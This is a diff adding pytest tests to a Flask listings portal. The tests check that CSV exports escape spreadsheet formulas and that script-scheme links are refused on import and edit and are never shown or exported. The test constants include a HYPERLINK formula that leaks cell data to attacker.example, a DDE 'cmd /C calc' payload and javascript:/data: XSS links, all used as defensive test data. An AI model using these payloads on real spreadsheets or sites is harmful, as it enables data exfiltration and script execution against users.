@@ -156,3 +156,156 @@ def test_exports_keep_listing_text_exactly(app: Flask, world: World, tmp_path: P
         assert hostile(field) in values, f"{kind} export: {field} is not kept exactly"
     assert hostile("Service name") + " " + world.word in values
     assert not evaluated(" ".join(values))
+
+
+# Spreadsheet formulas and links that run script -------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+SUM_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formula_world(app: Flask) -> Iterator[World]:
+    """Organisation A named like a formula, its service too, and a place whose address starts with a tab."""
+    from portal.extensions import db
+    from portal.models import Location, Organization, Service
+
+    made = make_world(app)
+    with app.app_context():
+        db.session.get(Organization, made.organisation_a).name = FORMULA_NAME
+        service = db.session.get(Service, made.service_a)
+        service.name = SUM_NAME
+        service.description = "+44 161 496 0123 is the number to call\n-and- a line"
+        location = db.session.get(Location, service.service_at_locations[0].location_id)
+        location.name = "\t=1+2"
+        db.session.commit()
+    yield made
+    remove_world(app, made)
+
+
+def exported_csv(app: Flask, folder: Path) -> dict[str, list[dict[str, str]]]:
+    result = app.test_cli_runner().invoke(args=["portal", "export", "--format", "csv", str(folder)])
+    assert result.exit_code == 0, result.output
+    tables = {}
+    for path in folder.glob("*.csv"):
+        with path.open(newline="", encoding="utf-8") as file:
+            tables[path.stem] = list(csv.DictReader(file))
+    return tables
+
+
+def test_the_csv_export_writes_formulas_as_text(app: Flask, formula_world: World, tmp_path: Path) -> None:
+    tables = exported_csv(app, tmp_path)
+    by_id = {table: {row["id"]: row for row in rows} for table, rows in tables.items()}
+    assert by_id["organizations"][formula_world.organisation_a]["name"] == "'" + FORMULA_NAME
+    service = by_id["services"][formula_world.service_a]
+    assert service["name"] == "'" + SUM_NAME
+    assert service["description"].startswith("'+44 161")
+    assert "'\t=1+2" in {row["name"] for row in tables["locations"]}
+    for table, rows in tables.items():
+        for row in rows:
+            for name, cell in row.items():
+                if cell.startswith(FORMULA_STARTS):
+                    # Only numbers may start with a minus sign (a longitude): they are not formulas.
+                    assert re.fullmatch(r"-\d+(\.\d+)?", cell), f"{table}.{name} starts a formula: {cell!r}"
+
+
+def test_our_own_csv_export_reads_back_exactly(app: Flask, formula_world: World, tmp_path: Path) -> None:
+    from portal.exchange.importing import check_path
+    from portal.extensions import db
+
+    exported_csv(app, tmp_path)
+    with app.app_context():
+        checked = check_path(db.session(), tmp_path)
+    assert not checked.errors, checked.errors[:5]
+    assert checked.rows["organization"][formula_world.organisation_a]["name"] == FORMULA_NAME
+    service = checked.rows["service"][formula_world.service_a]
+    assert service["name"] == SUM_NAME
+    assert service["description"] == "+44 161 496 0123 is the number to call\n-and- a line"
+    assert "\t=1+2" in {row["name"] for row in checked.rows["location"].values()}
+    assert all(-3 < row["longitude"] < -1 for row in checked.rows["location"].values() if row.get("longitude"))
+
+
+@pytest.mark.parametrize("text", ["=1+2", "'=1+2", "''@x", "'plain", "-", "'", "", "plain", "\t", "'\r=", "+-"])
+def test_making_a_cell_safe_and_reading_it_back_give_the_text(text: str) -> None:
+    from portal.csv_cells import as_written, spreadsheet_safe
+
+    safe = spreadsheet_safe(text)
+    assert not safe.startswith(FORMULA_STARTS)
+    assert as_written(safe) == text
+
+
+BAD_LINKS = ("javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>",
+             " JavaScript:alert(1)", "vbscript:msgbox(1)", "java\tscript:alert(1)")
+
+
+@pytest.mark.parametrize("link", BAD_LINKS)
+def test_an_import_with_a_script_link_is_refused(app: Flask, tmp_path: Path, link: str) -> None:
+    template = tmp_path / "listing.csv"
+    with template.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.writer(file)
+        writer.writerow(["organisation_name", "organisation_website", "service_name", "service_description",
+                         "service_url"])
+        writer.writerow(["Example Group (example only)", link, "Example Club", "An example", link])
+    result = app.test_cli_runner().invoke(args=["portal", "import", str(template), "--dry-run", "--approve"])
+    assert result.exit_code != 0
+    for column in ("organisation_website", "service_url"):
+        assert f"{template}, line 2, field '{column}': must be a web address starting http:// or https://" \
+            in result.output, result.output
+
+
+def test_an_oruk_file_with_a_data_link_is_refused(app: Flask, tmp_path: Path) -> None:
+    service = {"id": "0b7e4f0e-6f5b-4a57-9d2a-7d5d8b0c2a11", "name": "Example Club", "description": "An example",
+               "status": "active", "url": "data:text/html,<script>alert(1)</script>",
+               "organization": {"id": "5a0e2f4c-1b2d-4e3f-8a9b-0c1d2e3f4a5b", "name": "Example Group (example only)",
+                                "description": "An example", "website": "javascript:alert(1)"}}
+    path = tmp_path / "service.json"
+    path.write_text(json.dumps(service), encoding="utf-8")
+    result = app.test_cli_runner().invoke(args=["portal", "import", str(path), "--dry-run", "--approve"])
+    assert result.exit_code != 0
+    assert result.output.count("must be a web address starting http:// or https://") == 2, result.output
+    assert "'url'" in result.output and "'website'" in result.output
+
+
+@pytest.mark.parametrize("link", BAD_LINKS[:2])
+def test_an_edit_with_a_script_link_is_refused(client: FlaskClient, world: World, link: str) -> None:
+    from tests.accounts import sign_in_as
+    from tests.listings import post_form
+
+    sign_in_as(client, world.editor_a)
+    response = post_form(client, f"/manage/services/{world.service_a}/sections/details",
+                         {"name": "Test club", "description": "An example", "url": link, "email": "", "phones": ""})
+    html = response.get_data(as_text=True)
+    assert response.status_code == 200 and "govuk-error-summary" in html
+    assert "Enter a website address in the correct format" in html
+    response = post_form(client, f"/manage/organisations/{world.organisation_a}/edit",
+                         {"name": "Test organisation", "description": "", "website": link, "email": "",
+                          "safeguarding_lead": "", "note": ""})
+    html = response.get_data(as_text=True)
+    assert response.status_code == 200 and "Enter a website address in the correct format" in html
+
+
+@pytest.mark.parametrize("link", BAD_LINKS[:2])
+def test_a_script_link_already_in_the_database_is_never_shown_or_passed_on(
+        app: Flask, client: FlaskClient, world: World, tmp_path: Path, link: str) -> None:
+    from portal.extensions import db
+    from portal.models import Organization, Service
+
+    with app.app_context():
+        db.session.get(Organization, world.organisation_a).website = link
+        db.session.get(Service, world.service_a).url = link
+        db.session.commit()
+    scheme = link.split(":", 1)[0]
+    for url in (f"/services/{world.service_a}", f"/organisations/{world.organisation_a}",
+                f"/shortlist/shared?ids={world.service_a}", f"/search?q={world.word}"):
+        page = fetch_page(client, url)
+        assert not [a for a in page.find_all("a") if (a.get("href") or "").lower().startswith(scheme)], url
+        assert link not in page.get_text(), url
+    for url in (f"/api/oruk/services/{world.service_a}", f"/api/oruk/services?search={world.word}"):
+        answer = client.get(url)
+        assert answer.status_code == 200 and scheme not in answer.get_data(as_text=True).lower(), url
+    for kind in ("json", "csv"):
+        result = app.test_cli_runner().invoke(args=["portal", "export", "--format", kind, str(tmp_path / kind)])
+        assert result.exit_code == 0, result.output
+        for path in (tmp_path / kind).iterdir():
+            assert f"{scheme}:" not in path.read_text(encoding="utf-8").lower(), path
